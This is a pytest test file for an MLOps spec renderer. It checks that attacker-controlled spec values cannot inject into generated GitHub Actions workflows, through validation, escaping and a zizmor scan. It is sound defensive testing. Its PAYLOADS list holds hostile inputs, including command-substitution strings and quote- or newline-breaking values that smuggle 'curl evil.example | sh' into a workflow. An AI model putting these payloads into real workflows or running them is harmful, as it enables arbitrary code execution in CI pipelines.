"""Untrusted spec values cannot inject into generated workflows.

A pull request edits mlops.yaml, so every spec string that reaches a workflow is attacker
controlled. Two lines of defence, each tested on every such field:

1. validation rejects the payloads with a clear message at the field;
2. even a spec that skipped validation renders inert: the value is refused by the escaping
   filter, or it parses back from the YAML unchanged, sits only in ``env:``/data positions,
   and zizmor finds no template injection.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import require_tool
from pydantic import BaseModel
from variants import dump, variant

from mlops_spec.diagnostics import format_path
from mlops_spec.render.engine import RenderError, context_for, render
from mlops_spec.render.escaping import UnsafeValue
from mlops_spec.spec.sections import Spec
from mlops_spec.spec.validate import validate_text

PAYLOADS = {
    "expression": "${{ github.event.pull_request.title }}",
    "command": "$(id)",
    "backticks": "`id`",
    "double-quote": 'x" && curl evil.example | sh && echo "',
    "single-quote": "x' || true; echo '",
    "newline": "x\n      - run: curl evil.example | sh",
    "colon": "x: y",
}

# Every spec field whose value reaches a generated workflow, as a data path.
FIELDS: list[tuple[str | int, ...]] = [
    ("name",),
    ("deployment", "environments", 0, "name"),
    ("deployment", "environments", 1, "name"),
    ("ci", "secrets", 0),
    ("ci", "secrets", 1),
    ("ci", "runs_on"),
    ("ci", "python"),
    ("monitoring", "schedule"),
    ("monitoring", "current_data"),
    ("retrain", "schedule"),
    ("owners", "sme", 0),
    ("owners", "ml_engineer", 0),
]


def set_in(data: Any, path: tuple[str | int, ...], value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


@pytest.mark.parametrize("field", FIELDS, ids=format_path)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_validation_rejects_payloads(field: tuple[str | int, ...], payload: str) -> None:
    data = variant("example")
    set_in(data, field, payload)
    result = validate_text("mlops.yaml", dump(data))
    assert not result.ok
    errors = [d for d in result.diagnostics if d.is_error]
    at_field = [d for d in errors if tuple(d.path) == field]
    assert at_field, [(d.dotted_path, d.message) for d in errors]
    assert all(d.line is not None and d.message for d in at_field)


def test_validation_messages_are_clear() -> None:
    data = variant("example")
    data["name"] = PAYLOADS["expression"]
    data["monitoring"]["schedule"] = "0 6 * * *$(id)"
    result = validate_text("mlops.yaml", dump(data))
    messages = {d.dotted_path: d.message for d in result.diagnostics}
    assert "is not a DNS-1123 label" in messages["name"]
    assert messages["monitoring.schedule"] == (
        "monitoring.schedule: '*$(id)' is not a valid day of week (use *, 5, 1-5, */15 or "
        "1-30/2)")


# --- second line of defence: a spec that skipped validation --------------------------------


def replaced(model: BaseModel, path: tuple[str | int, ...], value: Any) -> Any:
    """A copy of a frozen model with one nested value replaced, without validation."""
    head, rest = path[0], path[1:]
    if isinstance(model, list):
        assert isinstance(head, int)
        items = list(model)
        items[head] = replaced(items[head], rest, value) if rest else value
        return items
    assert isinstance(head, str)
    current = getattr(model, head)
    return model.model_copy(update={head: replaced(current, rest, value) if rest else value})


def unvalidated(field: tuple[str | int, ...], payload: str) -> Spec:
    data = variant("example")
    data["deployment"]["delivery"] = {"mode": "push"}  # environments reach deploy jobs
    result = validate_text("mlops.yaml", dump(data))
    assert result.spec is not None
    spec: Spec = replaced(result.spec, field, payload)
    return spec


def render_workflows(spec: Spec) -> dict[str, str] | None:
    """Workflow texts, or None when the render refused the value."""
    root = Path("/repo")
    try:
        plan = render(context_for(spec, root / "mlops.yaml", root), ["github_actions"])
    except (UnsafeValue, RenderError):
        return None
    return {path: text for path, (text, _) in plan.files.items()}


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*strings(k), *strings(v))]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    return [value] if isinstance(value, str) else []


def run_scripts(workflow: dict[str, Any]) -> list[str]:
    return [step["run"] for job in workflow["jobs"].values() for step in job["steps"]
            if "run" in step]


@pytest.mark.parametrize("field", FIELDS, ids=format_path)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_unvalidated_values_render_inert(field: tuple[str | int, ...], payload: str) -> None:
    texts = render_workflows(unvalidated(field, payload))
    if texts is None:
        return  # refused by an escaping filter: nothing was produced
    # No expression made it into the document (comments are not evaluated by GitHub).
    code = [line for text in texts.values() for line in text.splitlines()
            if not line.lstrip().startswith("#")]
    assert not any("pull_request.title" in line for line in code)
    found = False
    for text in texts.values():
        workflow = yaml.safe_load(text)
        values = strings(workflow)
        # The payload comes back whole (as a value or inside one built around it) ...
        found = found or any(payload in value for value in values)
        # ... and never inside a script, where the shell would read it.
        assert not any(payload in script for script in run_scripts(workflow))
        # No line of the payload became a line of the document on its own.
        if "\n" in payload:
            assert payload.splitlines()[1] not in text.splitlines()
    if field[:2] != ("owners", "sme") and field[:2] != ("owners", "ml_engineer"):
        assert found, "the value should appear, escaped, in some workflow"


@pytest.mark.slow
def test_zizmor_finds_no_template_injection(tmp_path: Path) -> None:
    zizmor = require_tool("zizmor")
    directory = tmp_path / ".github" / "workflows"
    directory.mkdir(parents=True)
    count = 0
    for field in FIELDS:
        for name, payload in PAYLOADS.items():
            texts = render_workflows(unvalidated(field, payload))
            for index, text in enumerate((texts or {}).values()):
                slug = f"{format_path(field)}-{name}-{index}".replace("[", "-").replace("]", "")
                (directory / f"{slug}.yml").write_text(text, encoding="utf-8")
                count += 1
    assert count > 50
    done = subprocess.run([zizmor, "--offline", "--no-config", "--no-ignores", "--persona",
                           "auditor", "--format", "json", str(directory)],
                          capture_output=True, text=True)
    findings = json.loads(done.stdout)
    injections = [f for f in findings if f["ident"] == "template-injection"]
    assert injections == [], json.dumps(injections, indent=2)[:4000]
    # The auditor persona's one other finding is about secrets outside environments.
    assert {f["ident"] for f in findings} <= {"secrets-outside-env"}


def test_spec_path_with_shell_characters_is_refused(tmp_path: Path) -> None:
    result = validate_text("mlops.yaml", dump(variant("example")))
    assert result.spec is not None
    with pytest.raises(RenderError, match="spec paths may use letters"):
        context_for(result.spec, tmp_path / "$(id)" / "mlops.yaml", tmp_path)
